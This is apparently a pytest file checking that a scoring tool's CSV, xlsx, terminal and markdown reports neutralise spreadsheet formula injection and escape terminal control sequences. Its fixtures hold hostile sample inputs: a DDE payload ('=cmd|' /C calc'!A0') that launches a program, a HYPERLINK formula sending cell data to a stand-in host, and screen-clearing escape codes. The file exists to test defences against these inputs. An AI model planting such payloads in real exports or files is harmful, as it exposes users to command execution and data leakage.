"""What we write is safe: no input text becomes a formula, `-o` replaces only regular files,
a failed write is a plain message, messages are one line without raw control characters."""

from __future__ import annotations

import csv
import io

import attrs
import pytest

from cpg_score import Scorecard, load_grid, load_results, score
from cpg_score.reports import render_bytes, render_compare
from cpg_score.reports._cells import csv_cell, escape_controls, xlsx_text

HYPERLINK = '=HYPERLINK("http://example.test/?"&A1,"x")'

_GRID = """
id: g
label: "+grid"
period: 2020
total_points: 100
policy: {neutralisation: zero}
axes:
  - id: a1
    label: '@axis'
    objectives:
      - id: o1
        label: 'LABEL'
        points: 60
      - {id: o2, label: "-10 points", points: 40}
"""

_RESULTS = """
entity: {id: e, label: "=1+1"}
grid: g
period: 2020
results:
  o1: 0.5
  o2: {neutralised: "=cmd|' /C calc'!A0"}
"""


def _card(label: str = HYPERLINK) -> Scorecard:
    grid = load_grid(_GRID.replace("'LABEL'", "'" + label.replace("'", "''") + "'"))
    return score(grid, load_results(_RESULTS, grid))


def _with_label(card: Scorecard, label: str) -> Scorecard:
    """The card with objective o1 relabelled (labels the reader might refuse, for defence in depth)."""
    axis = card.axes[0]
    objectives = (attrs.evolve(axis.objectives[0], label=label), *axis.objectives[1:])
    return attrs.evolve(card, axes=(attrs.evolve(axis, objectives=objectives),))


# -- CSV ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1", "'+33 1"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_csv_cell_neutralises_formula_prefixes(value: str, expected: str) -> None:
    assert expected == csv_cell(value)


def test_csv_cell_keeps_numbers_numbers() -> None:
    from decimal import Decimal

    assert Decimal("-1.50") == csv_cell(Decimal("-1.50"))


def test_csv_report_neutralises_input_text() -> None:
    rows = list(csv.reader(io.StringIO(render_compare([_card()], "csv", "en"))))
    objective = rows[1]
    assert ["e", "'" + HYPERLINK] == [objective[0], objective[4]]
    assert "'@axis" == rows[3][4]
    assert "'-10 points" == rows[2][4]
    assert "'=cmd|' /C calc'!A0" == rows[2][9]


def test_csv_numbers_stay_plain_numbers() -> None:
    rows = list(csv.reader(io.StringIO(render_compare([_card()], "csv", "en"))))
    assert ["50.00", "30.00", "60.00"] == rows[1][5:8]


# -- xlsx --------------------------------------------------------------------------------------

openpyxl = pytest.importorskip("openpyxl")


def _book(card: Scorecard, other: Scorecard | None = None):  # type: ignore[no-untyped-def]
    cards = [card] if other is None else [card, other]
    return openpyxl.load_workbook(io.BytesIO(render_bytes(cards, "xlsx", "en")))


def test_xlsx_formula_label_is_a_string_cell() -> None:
    cell = _book(_card())["e"]["D3"]
    assert ("s", HYPERLINK) == (cell.data_type, cell.value)


def test_xlsx_formula_label_has_the_quote_prefix() -> None:
    assert _book(_card())["e"]["D3"].quotePrefix


def test_xlsx_every_input_text_is_a_string_cell() -> None:
    ws = _book(_card())["e"]
    cells = {ws["D2"].value, ws["D4"].value, ws["I4"].value}
    assert {"@axis", "-10 points", "=cmd|' /C calc'!A0"} == cells
    assert {"s"} == {ws[c].data_type for c in ("D2", "D4", "I4")}


def test_xlsx_entity_label_below_the_table_is_text() -> None:
    ws = _book(_card())["e"]
    assert ("s", "=1+1") == (ws["D7"].data_type, ws["D7"].value)


def test_xlsx_error_code_label_stays_text() -> None:
    cell = _book(_card("#N/A"))["e"]["D3"]
    assert ("s", "#N/A") == (cell.data_type, cell.value)


def test_xlsx_own_formulas_stay_formulas() -> None:
    ws = _book(_card())["e"]
    assert [("f", "=E3*G3"), ("f", "=SUM(F3:F4)")] == [
        (ws["F3"].data_type, ws["F3"].value),
        (ws["F2"].data_type, ws["F2"].value),
    ]


def test_xlsx_numbers_stay_numbers() -> None:
    ws = _book(_card())["e"]
    assert ("n", 0.5) == (ws["E3"].data_type, ws["E3"].value)


def test_xlsx_comparison_sheet_labels_are_text() -> None:
    card = _card()
    other = attrs.evolve(card, entity=attrs.evolve(card.entity, id="f", label="@other"))
    ws = _book(card, other)["Comparison"]
    assert [("s", HYPERLINK), ("s", "=1+1 — Rate"), ("s", "@other — Rate")] == [
        (ws["D3"].data_type, ws["D3"].value),
        (ws["E1"].data_type, ws["E1"].value),
        (ws["H1"].data_type, ws["H1"].value),
    ]


def test_xlsx_comparison_sheet_keeps_its_references() -> None:
    card = _card()
    other = attrs.evolve(card, entity=attrs.evolve(card.entity, id="f"))
    ws = _book(card, other)["Comparison"]
    assert ("f", "='e'!F3") == (ws["F3"].data_type, ws["F3"].value)


def test_xlsx_control_characters_are_escaped_not_fatal() -> None:
    ws = _book(_with_label(_card(), "bell\x07 esc\x1b[31m"))["e"]
    assert "bell\\x07 esc\\x1b[31m" == ws["D3"].value


def test_xlsx_text_keeps_tab_and_newline() -> None:
    assert "a\tb\nc\\x00" == xlsx_text("a\tb\nc\x00")


# -- terminal ----------------------------------------------------------------------------------


def test_escape_controls() -> None:
    assert "a\\x1b[2Jb\\x00c\\x0d\\x0a\\u202e\\x9b" == escape_controls("a\x1b[2Jb\x00c\r\n\u202e\x9b")


def test_table_escapes_control_characters_in_labels() -> None:
    text = render_compare([_with_label(_card(), "evil\x1b[2J\rlabel")], "table", "en")
    assert "evil\\x1b[2J\\x0dlabel" in text and "\x1b" not in text and "\r" not in text


def test_colored_table_keeps_its_own_colours() -> None:
    text = render_compare([_with_label(_card(), "evil\x1b[2J")], "table", "en", color=True)
    assert "\x1b[1m" in text and "\x1b[2J" not in text


def test_markdown_escapes_control_characters_in_labels() -> None:
    text = render_compare([_with_label(_card(), "evil\x1b]0;title\x07")], "markdown", "en")
    assert "evil\\x1b]0;title\\x07" in text and "\x1b" not in text
